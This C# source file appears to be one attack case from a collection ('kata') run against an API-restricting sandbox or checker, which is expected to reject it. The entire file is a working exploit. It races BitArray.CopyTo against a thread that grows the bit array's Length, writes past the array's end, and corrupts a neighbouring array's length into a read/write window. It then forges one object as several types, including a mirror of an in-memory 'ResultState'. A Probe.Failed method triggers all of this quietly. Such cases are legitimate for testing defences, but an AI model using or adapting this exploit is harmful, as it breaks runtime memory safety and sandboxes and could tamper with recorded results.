// attack: changes the length of bits while the framework copies them, so that it writes past the end of the copy
// chapter: 03-first-thread
// expect: NotAllowed System.Collections.BitArray.Length
using System.Collections;
using System.Runtime.CompilerServices;

namespace Katas.FirstThread;

/// <summary>Four words of memory, whoever they belong to.</summary>
internal sealed class Longs
{
    public long V0,
        V1,
        V2,
        V3;
}

internal sealed class Refs
{
    public object? R0;
}

internal sealed class Views
{
    public View? R0;
}

internal sealed class States
{
    public State? R0;
}

/// <summary>As ResultState lies in memory: Label, Status, Site.</summary>
internal sealed class State
{
    public object? Label;
    public int Status;
    public int Site;
}

/// <summary>Any object, seen as a row of references.</summary>
internal sealed class View
{
    public object? F0,
        F1,
        F2,
        F3,
        F4,
        F5,
        F6,
        F7,
        F8,
        F9,
        F10;
    public object? F11,
        F12,
        F13,
        F14,
        F15,
        F16,
        F17,
        F18,
        F19,
        F20;

    public object? At(int i) =>
        i switch
        {
            0 => F0,
            1 => F1,
            2 => F2,
            3 => F3,
            4 => F4,
            5 => F5,
            6 => F6,
            7 => F7,
            8 => F8,
            9 => F9,
            10 => F10,
            11 => F11,
            12 => F12,
            13 => F13,
            14 => F14,
            15 => F15,
            16 => F16,
            17 => F17,
            18 => F18,
            19 => F19,
            20 => F20,
            _ => null,
        };
}

/// <summary>
/// BitArray.CopyTo(bool[]) compares the array's length with the number of bits once, and reads the number of bits again in each round of a loop
/// that stores through a pointer. Who raises Length meanwhile has it store past the end: bytes of 0 and 1, as the bits say.
/// </summary>
internal static class Overrun
{
    // Below 85 000 bytes, so that it lies among small objects; a multiple of 64, so that all of it is stored by the loop.
    private const int Size = 64 * 1024;
    private const int Beyond = 64;
    private const int Long = 0x00010101;

    private static readonly Longs Both = new();
    private static volatile int s_go;
    private static int s_tried;

    public static Refs? AsRefs;
    public static Views? AsViews;
    public static States? AsStates;
    public static string Report = "not tried";

    public static bool IsOpen => AsRefs is not null && AsViews is not null && AsStates is not null;

    public static void Open()
    {
        if (Interlocked.Exchange(ref s_tried, 1) == 1)
            return;
        // The memory of the larger size stays, so that growing again takes no time.
        var bits = new BitArray(Size + Beyond) { Length = Size };
        var warm = new bool[Size];
        for (var i = 0; i < 50; i++)
            bits.CopyTo(warm, 0);
        _ = (Make<object>(1), Make<Refs>(1), Make<Views>(1), Make<States>(1), Make<Longs>(1));
        _ = (Make<bool>(Size), Length(Make<long>(8)));
        new Thread(() => Grow(bits)) { IsBackground = true }.Start();
        var refused = 0;
        // Whoever is not refused has written somewhere, as a rule.
        for (var again = 0; again < 2000 && again - refused < 20 && !IsOpen; again++)
        {
            bits.Length = Size;
            // One after the other in memory, as a rule.
            var row = Make<bool>(Size);
            var window = Make<long>(8);
            var any = Make<object>(1);
            var refs = Make<Refs>(1);
            var views = Make<Views>(1);
            var states = Make<States>(1);
            var repair = Make<Longs>(1);
            var model = Make<long>(1);
            s_go = 1;
            try
            {
                bits.CopyTo(row, 0);
            }
            catch (ArgumentException)
            {
                refused++;
            }
            while (s_go == 1)
                Thread.SpinWait(1);
            if (Length(window) != 8)
            {
                Report =
                    $"after {again} tries ({refused} refused): an array of 8 numbers says that it has {Length(window)}";
                if (Length(window) == Long)
                    Use(window, any, refs, views, states, repair, model);
                else
                    break;
            }
            GC.KeepAlive(row);
        }
        if (Report == "not tried")
            Report = $"nothing: {refused} tries were refused";
        s_go = 3;
    }

    private static void Grow(BitArray bits)
    {
        while (s_go != 3)
        {
            if (s_go != 1)
                continue;
            bits.Length = Size + Beyond;
            // Of what follows the array: 8 bytes of header, 8 of type, then the length.
            bits[Size + 16] = true;
            bits[Size + 17] = true;
            bits[Size + 18] = true;
            s_go = 2;
        }
    }

    [MethodImpl(MethodImplOptions.NoInlining)]
    private static T[] Make<T>(int length) => new T[length];

    [MethodImpl(MethodImplOptions.NoInlining)]
    private static int Length(long[] array) => array.Length;

    // 8 header, 9 type, 10 length, 11 any[0], 12 .. 15 refs[0], .. 19 views[0], .. 23 states[0], .. 27 repair[0], 29 type of model, 30 its length
    [MethodImpl(MethodImplOptions.NoInlining)]
    private static void Use(
        long[] window,
        object[] any,
        Refs[] refs,
        Views[] views,
        States[] states,
        Longs[] repair,
        long[] model
    )
    {
        var isRow =
            At(window, 10) == 1
            && At(window, 14) == 1
            && At(window, 18) == 1
            && At(window, 22) == 1
            && At(window, 26) == 1
            && At(window, 30) == 1
            && At(window, 15) == 0;
        if (!isRow)
        {
            Report += "; what follows is not what was expected";
            return;
        }
        // One object without references, known as four types.
        any[0] = Both;
        Put(window, 15, At(window, 11));
        Put(window, 19, At(window, 11));
        Put(window, 23, At(window, 11));
        AsRefs = refs[0];
        AsViews = views[0];
        AsStates = states[0];
        // The window gets its type and its length back before anybody collects garbage.
        any[0] = window;
        var type = At(window, 29);
        Put(window, 27, At(window, 11) - 8);
        Longs? self = repair[0];
        self.V0 = type;
        repair[0] = null!;
        self.V1 = 8;
        self = null;
        any[0] = null!;
        GC.KeepAlive(model);
        Report += "; mended, and one object now has four types";
    }

    // Each is read anew: nothing that was read before is taken for still true.
    [MethodImpl(MethodImplOptions.NoInlining)]
    private static long At(long[] array, int index) => array[index];

    [MethodImpl(MethodImplOptions.NoInlining)]
    private static void Put(long[] array, int index, long value) => array[index] = value;
}

internal static class Twofold
{
    private static readonly Lock Gate = new();

    public static void Show(object any, Action<View> look)
    {
        View view;
        lock (Gate)
        {
            Overrun.AsRefs!.R0 = any;
            view = Overrun.AsViews!.R0!;
        }
        look(view);
        GC.KeepAlive(any);
    }

    public static void ShowState(object any, Action<State> look)
    {
        State state;
        lock (Gate)
        {
            Overrun.AsRefs!.R0 = any;
            state = Overrun.AsStates!.R0!;
        }
        look(state);
        GC.KeepAlive(any);
    }
}

internal static class Probe
{
    public static NotImplementedException Failed()
    {
        if (Thread.CurrentThread.Name is null)
            return new();
        Overrun.Open();
        Console.WriteLine($"OVERRUN {Overrun.Report}");
        return new();
    }
}
